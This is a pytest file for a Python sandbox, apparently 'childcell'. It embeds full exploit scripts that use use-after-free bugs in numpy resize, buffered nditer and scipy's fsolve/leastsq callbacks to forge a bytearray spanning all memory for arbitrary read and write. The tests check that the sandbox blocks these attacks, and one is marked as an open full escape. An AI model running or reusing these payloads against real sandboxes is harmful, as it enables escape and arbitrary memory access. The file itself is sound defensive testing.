"""Sink: memory freed under an array the cell holds.

An array is a pointer to memory somebody else may free: numpy frees a buffered iterator's buffers at close(),
ndarray.resize(refcheck=False) frees the old block under every view of it, and C code that hands a callback an
array over its own work memory frees that memory when it returns. The cell then writes through its stale
array into whatever Python allocates there next (a list's item array, a bytes object's header), which gives a
bytearray over all memory: any address read and written. Every attack here is review 9's (docs/reviews.md);
docs/security.md's inventory has the row ("memory freed under a view").
"""
from __future__ import annotations

import json

import pytest

from childcell import run_reporting


# --- the array's own block: resize through super() (review 9, N9-6) ---------------------------------------------
# The gate refused a.resize from the instance, the class, a cell subclass, methodcaller and partial, but the
# super() path decided before that rule ran (Gates._decide_super): now one rule for both (_refuse_array_resize).

RESIZE = '''
import numpy as np
bb = np.lib.array_utils.byte_bounds
SETUP
stale = x.view(np.ndarray).reshape(-1)      # a view of the 8000-byte block
base = bb(stale)[0]
SHRINK                                      # realloc to 8 bytes: the rest of the block is freed under the view
big, k = [], None
for i in range(400):
    b = bytes((8000, 4000, 2000, 1000, 600)[i % 5])
    big.append(b)
    if base <= id(b) and id(b) + 64 <= base + 8000:
        k = (id(b) - base) // 8
        break
stale[k:k + 7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
ba = big[-1]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''

RESIZES = {
    "super() in a cell subclass": ("class A(np.ndarray):\n    def shrink(self):\n"
                                   "        super().resize(1, refcheck=False)\nx = A((1000,), dtype=np.int64)",
                                   "x.shrink()"),
    "super(np.matrix, m)": ("x = np.matrix(np.zeros((1, 1000), dtype=np.int64))",
                            "super(np.matrix, x).resize((1, 1), refcheck=False)"),
}


@pytest.mark.parametrize("route", sorted(RESIZES))
def test_resize_through_super_is_refused(route):
    setup, shrink = RESIZES[route]
    result = run_reporting(RESIZE.replace("SETUP", setup).replace("SHRINK", shrink), ns=("typeptr", "written"),
                           timeout=120)
    assert "crashed" not in result, result
    assert result["ename"] == "AttributeDenied" and not result["typeptr"] and not result["written"], json.dumps(result)


# --- an iterator's buffers: np.nditer(flags=['buffered']) (review 9, N9-5) -----------------------------------------

NDITER = '''
import numpy as np
bb = np.lib.array_utils.byte_bounds
a = np.arange(4000, dtype=np.int32)
kept = []
it = np.nditer([a], flags=['buffered', 'external_loop'], op_flags=[['readwrite']], op_dtypes=[np.float64],
               casting='unsafe', buffersize=1000)
CLOSE
stale = kept[-1].view(np.int64)      # a view of the iterator's cast buffer, which close() freed
big = []
for i in range(200):                 # the next block of that size is a bytes object laid on the freed buffer
    big.append(bytes(8000))
    if id(big[-1]) == bb(stale)[0]:
        break
# its header rewritten: a bytearray over the whole address space
stale[:7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
ba = big[-1]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''

CLOSES = {
    "with block": "with it:\n    for x in it:\n        kept.append(x)",
    "close()": "for x in it:\n    kept.append(x)\nit.close()",
}


@pytest.mark.parametrize("close", sorted(CLOSES))
def test_nditer_buffers_do_not_outlive_close(close):
    result = run_reporting(NDITER.replace("CLOSE", CLOSES[close]), ns=("typeptr", "written"), timeout=120)
    assert "crashed" not in result, result
    assert result["ename"] == "CallDenied" and not result["typeptr"] and not result["written"], json.dumps(result)


def test_unbuffered_iteration_still_works(run):
    r = run("import numpy as np\na = np.arange(6.0).reshape(2, 3)\ntot = 0.0\nfor x in np.nditer(a):\n"
            "    tot += float(x)\nwith np.nditer(a, op_flags=[['readwrite']]) as it:\n    for x in it:\n"
            "        x[...] = 2 * x\nouter = [i.shape for i in np.nested_iters(a, [[0], [1]])]\nprint(tot, a.sum(), outer)\n")
    assert r.ok and r.stdout == "15.0 30.0 [(2,), (3,)]\n", r


# --- C work memory handed to a callback: MINPACK (review 9, N9-3) --------------------------------------------------

UAF = '''
import numpy as np
from scipy import optimize
class Marker:
    pass
marker = Marker()
lists, slot, kept = [], None, []
def f(x):
    kept.append(x)          # x is an array over MINPACK's work buffer (no owner, no base)
    return x - 1.0
for attempt in range(20):
    optimize.SOLVER(f, np.zeros(50))
    # the buffer is freed now; the arrays still point into it
    stale = [k.view(np.int64) for k in kept if not k.flags.owndata and k.base is None]
    for i in range(600):
        L = [marker] * (1000, 500, 2000, 4000, 100, 300, 60)[i % 7]   # a list's item array lands in the freed block
        lists.append(L)
        for k in stale:
            hit = np.nonzero(k == id(marker))[0]
            if len(hit):
                slot = (L, k, int(hit[0]))
                break
        if slot:
            break
    if slot:
        break
L, k, j = slot
# a fake bytearray over the whole address space, its header the data of a bytes object
fake = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64).tobytes()
k[j] = id(fake) + 32
ba = [L[n] for n in range(len(L)) if L[n] is not marker][0]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''


@pytest.mark.xfail(strict=True, reason="FINDING N9-3 (FULL ESCAPE, open): MINPACK's callbacks (fsolve, leastsq) hand the "
                   "cell arrays over scipy's work buffer, freed when the solver returns; a list's item array "
                   "reuses it and the stale array writes a pointer to a fake bytearray: any address read/written")
@pytest.mark.parametrize("solver", ["fsolve", "leastsq"])
def test_solver_callback_arrays_do_not_outlive_their_memory(solver):
    result = run_reporting(UAF.replace("SOLVER", solver), ns=("typeptr", "written"), timeout=120)
    assert "crashed" not in result, result
    assert not result["typeptr"] and not result["written"], json.dumps(result)
